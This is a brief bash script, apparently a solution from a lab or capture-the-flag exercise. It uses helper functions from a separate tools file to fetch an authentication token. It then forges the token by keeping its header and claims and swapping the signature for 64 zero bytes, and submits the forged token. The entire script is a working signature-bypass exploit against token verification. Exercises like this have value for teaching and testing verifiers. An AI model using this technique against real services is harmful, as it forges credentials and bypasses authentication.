#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at zeros token)")"
header="$(printf '%s' "$token" | part 1)"
send zeros "$header.$(claims "$token").$(head -c 64 /dev/zero | b64)"
